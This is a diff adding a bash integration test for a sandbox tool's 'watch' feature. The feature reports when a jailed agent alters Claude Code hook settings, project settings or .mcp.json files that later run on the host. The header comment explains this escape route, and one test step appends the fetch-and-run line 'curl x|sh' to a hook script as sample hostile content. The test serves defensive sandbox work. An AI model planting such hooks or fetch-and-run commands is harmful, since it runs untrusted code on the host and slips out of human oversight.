@@ -1,0 +1,79 @@
+#!/bin/bash
+# tests/integration/run_watch.sh - [filesystem] watch: the files a
+# program runs commands from when it next starts, outside sbx too.  The
+# agent profiles bind an agent's own directory read-write (its login), and
+# its settings there name commands it runs: Claude Code's hooks in
+# ~/.claude/settings.json, a project's .claude/settings.json or
+# .vscode/tasks.json.  Written from the jail, they ran on the host the
+# next time the agent (or the editor) started outside sbx, and nothing
+# said so.  Now each watched path made or changed while the command ran
+# is named after the run: the run log (a warning), the exit event, the
+# record and inspect; an untouched one is not.  As root and as a user.
+. "$(dirname "$0")/../lib/tap.sh"
+. "$(dirname "$0")/../lib/sbx.sh"
+
+need_tools jq
+sbx_modes
+sbx_base
+
+for mode in $MODES; do
+	if [ "$mode" = root ]; then owner=4242:4343; else owner=$UID_U:$UID_U; fi
+	H=$BASE/$mode/home
+	P=$H/proj
+	mkdir -p "$P/.claude" "$H/.claude/hooks" && echo '{}' >"$H/.claude/settings.json" &&
+		echo 'echo hi' >"$H/.claude/hooks/stop.sh" && echo '{}' >"$P/.claude/settings.json"
+	chown -R "$owner" "$H" && chmod 0755 "$BASE/$mode" "$H" "$P"
+	cat >"$BASE/w-$mode.ini" <<EOF
+[sandbox]
+extends = agent
+[network]
+mode = none
+[filesystem]
+bind = $H/.claude
+watch = $H/.claude/settings.json
+watch = $H/.claude/hooks
+watch = $H/.claude/absent.json
+watch = $P/.claude/settings.json
+EOF
+	chmod 0644 "$BASE/w-$mode.ini"
+	warn="(a file the profile watches: what it names runs when its program next starts, outside sbx too): look at it first"
+
+	# Nothing watched is touched: nothing said
+	capture sbx_as_mode_in "$P" "$mode" "$SBX" run --rm -p "$BASE/w-$mode.ini" -- sh -c \
+		"cat $H/.claude/settings.json >/dev/null; echo x >notes.txt"
+	[ "$rc" = 0 ] && [[ "$err" != *"changed during the run"* ]]
+	ok $? "$mode: a run that changes no watched file says nothing of them ($rc: $err)"
+
+	# A hook in the user's settings, a hook script edited, a new watched
+	# file, the project's settings: each named; the rest not
+	capture sbx_as_mode_in "$P" "$mode" "$SBX" run --keep -n "w-$mode" --log-json "$BASE/w-$mode.jsonl" \
+		-p "$BASE/w-$mode.ini" -- sh -c \
+		"echo '{\"hooks\":{}}' >$H/.claude/settings.json && echo 'curl x|sh' >>$H/.claude/hooks/stop.sh &&
+		 echo '{}' >$H/.claude/absent.json && echo '{}' >.claude/settings.json && echo done"
+	ev=$(jq -c 'select(.event == "exit") | .exit.watch_changed | sort' "$BASE/w-$mode.jsonl" 2>&1)
+	rec=$(sbx_as_mode "$mode" "$SBX" inspect --json "w-$mode" | jq -c '.exit.watch_changed | sort')
+	text=$(sbx_as_mode "$mode" "$SBX" inspect "w-$mode")
+	want=$(printf '%s\n' "$H/.claude/settings.json" "$H/.claude/hooks" "$H/.claude/absent.json" \
+		"$P/.claude/settings.json" | jq -R . | jq -sc sort)
+	[ "$rc" = 0 ] && [ "$out" = done ] && [ "$ev" = "$want" ] && [ "$rec" = "$want" ] &&
+		[[ "$err" == *"warning: changed during the run: $H/.claude/settings.json $warn"* ]] &&
+		[[ "$err" == *"warning: changed during the run: $H/.claude/hooks $warn"* ]] &&
+		[[ "$err" == *"warning: changed during the run: $P/.claude/settings.json $warn"* ]] &&
+		[[ "$text" == *"watched, changed"*"$H/.claude/settings.json"* ]]
+	ok $? "$mode: each watched file changed is named: run log, exit event, record, inspect ($rc: $ev | $rec | $err)"
+	sbx_as_mode "$mode" "$SBX" destroy "w-$mode" >/dev/null 2>&1
+
+	# The claude profile watches Claude Code's settings (and the project's)
+	hv=$H
+	capture sbx_as_mode_in "$P" "$mode" env HOME="$hv" "$SBX" run --rm -p claude --net none -- sh -c \
+		'echo "{\"hooks\":{}}" >~/.claude/settings.json && echo "{}" >.mcp.json'
+	[ "$rc" = 0 ] && [[ "$err" == *"changed during the run: $hv/.claude/settings.json ("* ]] &&
+		[[ "$err" == *"changed during the run: $P/.mcp.json ("* ]]
+	ok $? "$mode: -p claude: ~/.claude/settings.json and the project's .mcp.json are watched ($rc: $err)"
+	rm -f "$P/.mcp.json"
+
+	capture sbx_as_mode_in "$P" "$mode" "$SBX" profile show "$BASE/w-$mode.ini"
+	[ "$rc" = 0 ] && grep -qx "watch = $H/.claude/hooks" <<<"$out"
+	ok $? "$mode: profile show lists the watched paths ($rc)"
+done
+done_testing
